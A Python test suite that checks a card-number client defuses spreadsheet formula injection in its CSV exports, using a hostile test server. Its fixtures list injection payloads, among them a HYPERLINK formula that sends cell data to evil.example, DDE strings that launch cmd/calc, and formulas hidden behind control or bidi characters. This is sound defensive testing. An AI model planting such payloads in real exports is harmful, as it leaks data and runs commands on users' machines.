"""One CSV writer: a card number that is a formula is text in every CSV capdesk writes.

A server (or whatever answers at the configured address) hands out card numbers such
as ``=HYPERLINK(...)`` or ``+cmd|'/Ccalc'!A0``. ``capdesk card-number --csv`` and the
window's Export CSV must both write them so a spreadsheet shows them and never runs
them, and write the same number as the same cell. Cells hiding a formula behind a
control character, an escape sequence or a bidi override are cleaned first, then
defused; any other text is written as it is.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from capdesk import cli
from capdesk.api.auth import BasicCredentials
from capdesk.api.text import clean_server_text
from capdesk.paths import default_paths
from capdesk.store.csv_export import FORMULA_STARTS, csv_cell, write_csv
from capdesk.store.history import CSV_HEADER, CardHistory
from tests.cli.conftest import DEMO_PASSWORD, DEMO_TILL, Outcome
from tests.faults.desk import Desk, open_desk
from tests.hostile.server import HostileServer, answers_by_path, raw_reply
from tests.root_logger import restored_root_logger
from tests.ui.window_harness import export_from_window

TILL = BasicCredentials.from_password("store.till", "till-pass-1234")

# Card numbers the client accepts (printable, no space, at most 50 characters) that a
# spreadsheet would run: formulas, DDE, a "negative number", an @-function.
FORMULAS = {
    "sum": "=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus-dde": "+cmd|'/Ccalc'!A0",
    "minus-dde": "-2+3+cmd|'/Ccalc'!A0",
    "at-function": "@SUM(1+1)*cmd|'/Ccalc'!A0",
    "dde-call": '=DDE("cmd";"/Ccalc";"A0")',
    "negative": "-1000000018",
}
# A formula hidden behind characters a server may send and a spreadsheet may skip.
HIDDEN = {
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "nul": "\x00=1+1",
    "escape": "\x1b[0m=1+1",
    "osc": "\x1b]0;x\x07+cmd|'/Ccalc'!A0",
    "c1": "\x85@SUM(1)",  # NEL, a C1 line break
    "bidi": "\u202e=1+1",
    "newline": "\n-2+3",
}


def card_answer(number: str) -> bytes:
    body = json.dumps({"entity": number, "warnings": []}).encode()
    return raw_reply(200, [("Content-Type", "application/json")], body)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def window_on(qtbot, async_loop) -> Iterator[Callable[[str], Desk]]:
    """``window_on(base_url)``: the real window on that cluster, closed afterwards."""
    opened: list[Desk] = []

    def factory(base_url: str) -> Desk:
        desk = open_desk(qtbot, base_url, TILL)
        opened.append(desk)
        return desk

    yield factory
    for desk in opened:
        desk.close()


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> Outcome:
    capsys.readouterr()
    with restored_root_logger():  # the CLI sets up logging into the test's home
        code = cli.main(list(argv))
    captured = capsys.readouterr()
    return Outcome(code, captured.out, captured.err)


@pytest.mark.parametrize("number", list(FORMULAS.values()), ids=list(FORMULAS))
def test_command_line_and_window_write_the_same_defused_cell(
    qtbot,
    window_on: Callable[[str], Desk],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    number: str,
) -> None:
    monkeypatch.setenv("CAPDESK_USERNAME", DEMO_TILL)
    monkeypatch.setenv("CAPDESK_PASSWORD", DEMO_PASSWORD)
    with HostileServer(answers_by_path({"/v2/cardNumber": card_answer(number)})) as server:
        base_url = server.url().rsplit("/v2/", 1)[0]

        result = run_cli(capsys, "card-number", "--base-url", base_url, "--csv")
        assert result.code == 0, result.err
        printed = read_csv(result.out)

        desk = window_on(base_url)
        outcome = desk.generate(1)
        assert outcome.error is None
        target = tmp_path / "history.csv"
        assert export_from_window(qtbot, desk.window, target) == 2  # the CLI's and this
        exported = read_csv(target.read_text(encoding="utf-8-sig"))

    assert printed[0] == ["cardNumber"]  # the CLI's header, unchanged
    assert exported[0] == list(CSV_HEADER)
    cli_cell = printed[1][0]
    window_cells = [row[0] for row in exported[1:]]
    assert cli_cell == "'" + number  # shown as the number, never run
    assert window_cells == [cli_cell, cli_cell]  # the same cell, whichever exported it
    for row in exported[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("cell", list(HIDDEN.values()), ids=list(HIDDEN))
def test_export_cleans_a_hidden_formula_then_defuses_it(tmp_path: Path, cell: str) -> None:
    """Rows an older capdesk stored raw, a cluster label from a clusters file: every
    cell of the window's export is cleaned, then defused."""
    history = CardHistory(tmp_path / "history.db")
    try:
        history.append(cell, cluster=cell, till=cell, request_id=cell)
        target = tmp_path / "export.csv"
        history.export_csv(target)
    finally:
        history.close()
    row = read_csv(target.read_text(encoding="utf-8-sig"))[1]
    for value in row[:4]:
        assert value.isprintable(), repr(value)
        assert not value.startswith(FORMULA_STARTS), repr(value)
        assert value == csv_cell(cell)
        assert value.startswith("'")  # the formula behind the junk was defused too


def test_command_line_csv_streams_defused_numbers_stored_as_received(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Streaming stays: header then each number as it comes, defused, history first."""
    monkeypatch.setenv("CAPDESK_USERNAME", DEMO_TILL)
    monkeypatch.setenv("CAPDESK_PASSWORD", DEMO_PASSWORD)
    number = FORMULAS["hyperlink"]
    with HostileServer(answers_by_path({"/v2/cardNumber": card_answer(number)})) as server:
        base_url = server.url().rsplit("/v2/", 1)[0]
        result = run_cli(capsys, "card-number", "--base-url", base_url, "--csv", "--count", "3")
    assert result.code == 0, result.err
    assert result.out.splitlines()[0] == "cardNumber"
    assert [row[0] for row in read_csv(result.out)[1:]] == ["'" + number] * 3
    history = CardHistory(default_paths().history_file)
    try:
        assert [e.number for e in history.entries()] == [number] * 3  # stored as received
    finally:
        history.close()


formula_text = st.tuples(
    st.text(st.sampled_from(["\x00", "\x1b", "\t", "\r", "\n", " ", "\u202e", "\x9b"]), max_size=3),
    st.sampled_from(["=", "+", "-", "@", ""]),
    st.text(max_size=30),
).map("".join)


@settings(max_examples=400, deadline=None)
@given(cells=st.lists(st.one_of(formula_text, st.text(max_size=40)), min_size=1, max_size=6))
def test_every_cell_is_text_a_spreadsheet_shows(cells: list[str]) -> None:
    out = io.StringIO()
    assert write_csv(out, ["a"] * len(cells), [cells]) == 1
    written = read_csv(out.getvalue())[1]
    for original, cell in zip(cells, written, strict=True):
        assert cell == csv_cell(original)
        assert cell.isprintable() and not cell.startswith(FORMULA_STARTS)
        cleaned = clean_server_text(original, 1000)
        # Text that is not a formula is kept exactly (as cleaned); a formula gains a "'".
        assert cell == (("'" + cleaned) if cleaned.startswith(FORMULA_STARTS) else cleaned)
